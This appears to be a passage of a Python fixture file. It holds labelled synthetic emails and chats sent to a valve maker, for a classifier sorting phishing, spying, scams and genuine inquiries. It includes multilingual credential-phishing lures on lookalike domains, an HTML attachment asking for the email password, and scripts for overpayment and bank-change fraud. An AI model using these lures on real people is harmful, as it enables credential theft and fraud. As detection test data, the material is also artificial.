        **{"from": "Administrateur Messagerie <no-reply@hengtai-valves.webmail-verif.cfd>"},
        subject="Alerte : votre boîte aux lettres a atteint 98 % de sa capacité",
        body="""Bonjour sales@hengtai-valves.example,

Votre boîte aux lettres a atteint 98 % de sa capacité de stockage. 12 messages entrants sont actuellement retenus sur le serveur et seront supprimés dans 24 heures.

Pour libérer les messages et augmenter votre espace gratuitement, confirmez votre compte :
https://hengtai-valves.webmail-verif.cfd/?email=sales@hengtai-valves.example

Service de messagerie
© 2026 Webmail. Tous droits réservés.""",
        **{"class": "phishing"}, lang="fr", kind="mailbox"),

    "p5-en-vps-esign-agreement.eml": dict(
        provider="vps", client_ip="152.89.198.40", vps_host="ns1.vm-198-40.net", date="2026-11-30 14:55:27", offset="-0500",
        **{"from": "DocuSign via Van Houtte Technics <dse@docusign-envelope.net>"},
        subject="Please sign: Supply Agreement 2027 – Hengtai Valve / Van Houtte Technics",
        body="""Van Houtte Technics NV sent you a document to review and sign.

Supply Agreement 2027 (4 pages)

REVIEW DOCUMENT: https://docusign-envelope.workers.dev/sign/5f2a91c0-77e1-4c3e-9a41?email=sales@hengtai-valves.example

Please complete by 2 December 2026.

Do Not Share This Email
This email contains a secure link. Please do not share this email, link, or access code with others.""",
        **{"class": "phishing"}, lang="en", kind="esign-lure"),

    "p5-pt-vps-pedido-zip.eml": dict(
        provider="vps", client_ip="179.43.187.19", vps_host="mail.distribuidora-sul.example", date="2026-11-30 21:10:42", offset="-0300",
        **{"from": "Compras Distribuidora Sul <compras@distribuidora-sul.example>"},
        subject="Pedido de compra nº 4500187 - segue em anexo",
        attach=[("Pedido_4500187.zip", "application/zip", ZIP)],
        body="""Boa tarde,

Segue em anexo o pedido de compra nº 4500187 com as quantidades e os prazos de entrega. Favor confirmar o recebimento e enviar a fatura proforma.

Att,
Setor de Compras""",
        **{"class": "phishing"}, lang="pt", kind="po-lure"),

    "p5-ru-vps-zapros-link.eml": dict(
        provider="vps", client_ip="5.188.206.54", vps_host="smtp.ru-specs.info", date="2026-11-30 10:22:16", offset="+0000",
        **{"from": "Отдел закупок <zakupki@ru-specs.info>"},
        subject="Запрос коммерческого предложения № 1148 от 30.11.2026",
        body="""Добрый день!

Просим предоставить коммерческое предложение по позициям из прилагаемой спецификации (запорная арматура, 38 позиций).
Спецификация размещена на корпоративном диске, для доступа войдите с помощью вашей рабочей почты:

https://disk-yandex.ru-specs.info/d/spec-1148

Срок подачи предложения — до 03.12.2026.

С уважением,
Отдел закупок""",
        **{"class": "phishing"}, lang="ru", kind="rfq-lure"),

    "p5-ko-vps-gyeonjeok-htm.eml": dict(
        provider="vps", client_ip="45.141.84.120", vps_host="mail84.kr-biz.net", date="2026-11-30 11:48:02", offset="+0000",
        **{"from": "구매팀 <purchase@kr-biz.net>"},
        subject="견적서 확인 부탁드립니다 (HT2611)",
        attach=[("견적서_HT2611.htm", "text/html",
                 form_page("견적서 보기", "https://kr-biz-doc.web.app/auth?id=HT2611",
                           "견적서를 보려면 이메일 비밀번호를 입력하십시오."))],
        body="""안녕하세요.

요청하신 견적서를 첨부합니다. 첨부 파일을 열어 확인하신 후 회신 부탁드립니다.

감사합니다.
구매팀 드림""",
        **{"class": "phishing"}, lang="ko", kind="quote-lure"),

    "p5-tr-vps-paylasilan-dosya.eml": dict(
        provider="vps", client_ip="193.142.146.88", vps_host="vps88.tr-docs.site", date="2026-11-30 09:40:00", offset="+0000",
        **{"from": "OneDrive <no-reply@tr-docs.site>"},
        subject="Size bir dosya paylaşıldı: Siparis_Listesi_Aralik.xlsx",
        body="""Mehmet Yıldız sizinle bir dosya paylaştı.

Siparis_Listesi_Aralik.xlsx

Merhaba, aralık siparişlerinin listesi ektedir, fiyatlarınızı dosyaya işleyebilir misiniz?

Dosyayı aç: https://onedrive-paylasim.tr-docs.site/s/Siparis_Listesi_Aralik?e=sales%40hengtai-valves.example

Bu bağlantı yalnızca doğrudan alıcılar için çalışır.""",
        **{"class": "phishing"}, lang="tr", kind="shared-doc"),

    "p5-en-gmail-tender-portal.eml": dict(
        provider="gmail", date="2026-11-30 07:15:33", offset="+0400",
        **{"from": "Ahmed Al Mansoori <ahmed.projects.uae@gmail.com>"},
        subject="Invitation to quote – Al Dhafra desalination project valves",
        body="""Dear Sir,

You are invited to quote for the valve package of our desalination project. The RFQ, drawings and bill of quantities are on our secure tender portal. Sign in with your business email and password to download them:

https://aldhafra-tender.pages.dev/rfq/valves?supplier=hengtai

Bids close on 5 December 2026.

Best regards,
Ahmed Al Mansoori
Project Procurement""",
        **{"class": "phishing"}, lang="en", kind="rfq-lure"),

    # ---------------------------------------------------------------- spies
    "s5-en-gmail-cost-breakdown.eml": dict(
        provider="gmail", date="2026-11-30 16:22:09", offset="+0100",
        **{"from": "Laura Bennett <laura.bennett.sourcing@gmail.com>"},
        subject="Sourcing report - valves (ball, gate, butterfly, check)",
        body="""Hello,

I am preparing a sourcing report on Chinese valve manufacturers for a group of distributors in Europe. Could you kindly share:

1. your complete price list for all valve series (ball, gate, butterfly, check), at quantity tiers of 100 / 1,000 / 10,000 pcs;
2. a cost breakdown per unit for your best-selling items: casting, machining, seats and seals, labour, packing and your margin;
3. the distributors you already supply in Germany, Poland and Italy, so our members avoid conflicts with them.

There is no specific order at this stage. Once the report is published our members will contact the selected factories directly.

Kind regards,
Laura Bennett""",
        **{"class": "spy"}, lang="en", kind="spy"),

    "s5-de-gmail-haendlerpreise.eml": dict(
        provider="gmail", date="2026-11-30 15:03:27", offset="+0100",
        **{"from": "Thomas Brandt <t.brandt.handel@gmail.com>"},
        subject="Aufnahme Ihres Sortiments in unseren Katalog",
        body="""Sehr geehrte Damen und Herren,

wir überlegen, Ihr komplettes Armaturen-Sortiment in unseren Katalog aufzunehmen. Dazu benötigen wir vorab:

- Ihre vollständige Händlerpreisliste für alle Artikel und Nennweiten,
- die Einkaufspreise Ihrer Guss- und Messingrohlinge und wer Ihre Lieferanten dafür sind,
- eine Referenzliste mit Ihren Kunden in Deutschland, Österreich und der Schweiz.

Über Mengen und Zahlungsbedingungen können wir später sprechen, wenn wir alle Anbieter verglichen haben.

Mit freundlichen Grüßen
Thomas Brandt""",
        **{"class": "spy"}, lang="de", kind="spy"),

    "s5-ru-yandex-prais.eml": dict(
        provider="yandex", client_ip="95.165.134.21", date="2026-11-30 12:41:50", offset="+0300",
        **{"from": "Игорь Васильев <i.vasiliev.market@yandex.ru>"},
        subject="Прайс-лист и условия для дилеров",
        body="""Добрый день.

Мы сравниваем 25 производителей арматуры. Просьба прислать полный прайс-лист на всю номенклатуру с дилерскими ценами, вашу себестоимость по основным позициям и список ваших клиентов в России и Казахстане.
Объёмы и сроки обсудим позже, конкретного заказа пока нет.

Игорь""",
        **{"class": "spy"}, lang="ru", kind="spy"),
}


def _chat(id_: str, channel: str, at: str, name: str, body: str, cls: str, lang: str, kind: str, **extra) -> dict:
    return {"id": id_, "channel": channel, "received_at": at, "name": name, **extra, "body": body,
            "class": cls, "lang": lang, "kind": kind}


CHATS: list[dict] = [
    _chat("c5-es-01", "whatsapp", "2026-11-30T23:10:00+08:00", "Jorge Medina",
          "Hola buenas tardes, tienen válvula check de 4 pulgadas bridada? ocupo 30 piezas para Guadalajara, me pasa precio porfa",
          "genuine", "es", "inquiry", phone="+52 33 5555 8812", country="MX"),
    _chat("c5-pt-01", "whatsapp", "2026-11-30T20:35:00+08:00", "Fernanda",
          "Bom dia! Vocês fazem válvula esfera tripartida inox 1\"? Preciso de 150 peças, entrega em Itajaí. Qual o prazo?",
          "genuine", "pt", "inquiry", phone="+55 47 99555 4120", country="BR"),
    _chat("c5-ar-01", "whatsapp", "2026-11-30T16:05:00+08:00", "عبدالله",
          "السلام عليكم، نحتاج 500 محبس بوابة 4 إنش للشحن إلى جدة، ممكن السعر؟",
          "genuine", "ar", "inquiry", phone="+966 50 555 7731", country="SA"),
    _chat("c5-id-01", "whatsapp", "2026-11-30T13:20:00+08:00", "Dedi",
          "Siang pak, ready stock ball valve kuningan 1/2 inch? butuh 2000 pcs kirim ke Jakarta",
          "genuine", "id", "inquiry", phone="+62 812 5555 3301", country="ID"),
    _chat("c5-vi-01", "im", "2026-11-30T10:15:00+08:00", "Trần Minh",
          "Chào shop, bên mình cần 300 van bi inox DN25, giao Hải Phòng, báo giá giúp mình nhé",
          "genuine", "vi", "inquiry", country="VN"),
    _chat("c5-th-01", "web", "2026-11-30T11:40:00+08:00", "Anan K.",
          "ต้องการใบเสนอราคาวาล์วปีกผีเสื้อ DN150 จำนวน 50 ตัว ส่งกรุงเทพฯ",
          "genuine", "th", "inquiry", country="TH", email="anan.k@siamflow.example"),
    _chat("c5-hi-01", "whatsapp", "2026-11-30T14:50:00+08:00", "Vikram",
          "Hello sir, gate valve 6 inch PN16 ka rate kya hai? 40 pcs chahiye, delivery Chennai port. Jaldi bataiye",
          "genuine", "hi", "inquiry", phone="+91 98405 55127", country="IN"),
    _chat("c5-ko-01", "phone", "2026-11-30T09:30:00+08:00", "부산 대성밸브",
          "안녕하세요, 부산 대성밸브입니다. 버터플라이 밸브 200A 80개 견적 부탁드립니다. 이메일로 보내주세요.",
          "genuine", "ko", "inquiry", phone="+82 51 555 2290", country="KR"),
    _chat("c5-tr-01", "whatsapp", "2026-11-30T15:25:00+08:00", "Serkan",
          "Selamlar, DN50 flanşlı küresel vana PN16 200 adet fiyatı nedir? Mersin limanı CIF",
          "genuine", "tr", "inquiry", phone="+90 532 555 4418", country="TR"),
    _chat("c5-ru-01", "im", "2026-11-30T12:10:00+08:00", "Ержан",
          "Здравствуйте! Интересуют затворы дисковые Ду200, 60 шт, доставка в Алматы. Пришлите КП",
          "genuine", "ru", "inquiry", country="KZ"),
    _chat("c5-fr-01", "web", "2026-11-30T17:55:00+08:00", "Sophie Lambert",
          "Bonjour, pouvez-vous m'envoyer un devis pour 100 clapets anti-retour DN50 inox, livraison Anvers ? Merci",
          "genuine", "fr", "inquiry", country="BE", email="s.lambert@hydrobel.example"),
    _chat("c5-ja-01", "web", "2026-11-30T10:45:00+08:00", "山田",
          "ボールバルブ（SUS316、20A）を300個検討中です。納期と価格を教えてください。",
          "genuine", "ja", "inquiry", country="JP", email="yamada@kansai-setsubi.example"),
    _chat("c5-en-01", "im", "2026-11-30T07:20:00+08:00", "Ben",
          "hi mate, need 120x DN80 butterfly valves lug type to Brisbane, can u quote FOB?",
          "genuine", "en", "inquiry", country="AU"),
    _chat("c5-pl-01", "whatsapp", "2026-11-30T16:40:00+08:00", "Tomasz",
          "Dzień dobry, czy macie zawory zwrotne mosiężne DN40? Potrzebuję 500 szt. do Wrocławia.",
          "genuine", "pl", "inquiry", phone="+48 601 555 982", country="PL"),
    _chat("c5-it-01", "web", "2026-11-30T18:20:00+08:00", "Giulia Conti",
          "Salve, vorrei un preventivo per 60 saracinesche DN100 PN16 con consegna a Genova. Grazie",
          "genuine", "it", "inquiry", country="IT", email="g.conti@termoidraulica-ligure.example"),
    # scams and spies
    _chat("c5-x-cheque", "whatsapp", "2026-11-30T02:40:00+08:00", "Steve",
          "Hi, I mailed a bank check for $18,900, its $6,500 more than the invoice because it covers my shipper. "
          "When it reaches your account just send the $6,500 to him by Western Union pls, his details coming next.",
          "scam", "en", "overpayment", phone="+1 405 555 0139"),
    _chat("c5-x-platform", "message", "2026-11-30T08:15:00+08:00", "Made-in-China Support",
          "Dear supplier, your account failed the annual verification. Your listings will be removed today unless the "
          "audit fee of USD 299 is paid. Reply YES and the verification officer will send payment instructions.",
          "scam", "en", "fake-platform"),
    _chat("c5-x-usdt", "im", "2026-11-30T03:05:00+08:00", "Alex",
          "can I pay USDT for a 40ft container of whatever valves u have ready? I send half now, give me your wallet address. "
          "also pls pay the inspection agent for me, I add it back in the same transfer",
          "scam", "en", "crypto"),
    _chat("c5-x-fr-frais", "whatsapp", "2026-11-30T21:30:00+08:00", "Ets Fotso Import",
          "Bonjour, votre offre est retenue. Mais c'est le fournisseur qui doit d'abord régler les frais de dédouanement "
          "anticipé de 380 000 FCFA à notre transitaire, ensuite nous payons la totalité de la commande.",
          "scam", "fr", "seller-pays-fee", phone="+237 6 55 55 12 48", country="CM"),
    _chat("c5-x-bank", "whatsapp", "2026-11-30T11:05:00+08:00", "Jinlong Copper Accounts",
          "Dear partner, pls note our bank account has changed, remit invoice JL-2611-33 to our new HK account. "
          "The old account is frozen for audit, don't use it. New details in the next message.",
          "scam", "en", "bank-change", phone="+852 5555 9014"),
    _chat("c5-x-ru-telegram", "im", "2026-11-30T04:30:00+08:00", "Максим",
          "Добрый день, есть крупный заказ на 2 млн долларов, обсуждать буду только в Telegram @valve_buyer_msk, почте не доверяю",
          "scam", "ru", "off-platform"),
    _chat("c5-x-spy", "im", "2026-11-30T10:00:00+08:00", "Kelly",
          "Hi, pls send the full price list of all your products incl. factory cost, and tell me which customers in Vietnam you supply. "
          "We compare many factories, order later.",
          "spy", "en", "spy"),
    _chat("c5-x-es-spy", "whatsapp", "2026-11-30T22:45:00+08:00", "Martín",
          "Hola, necesito la lista de precios completa de todos sus productos y los precios que les dan a sus distribuidores en Perú. "
          "Todavía no tengo pedido, es para comparar.",
          "spy", "es", "spy", phone="+51 944 555 207", country="PE"),
]
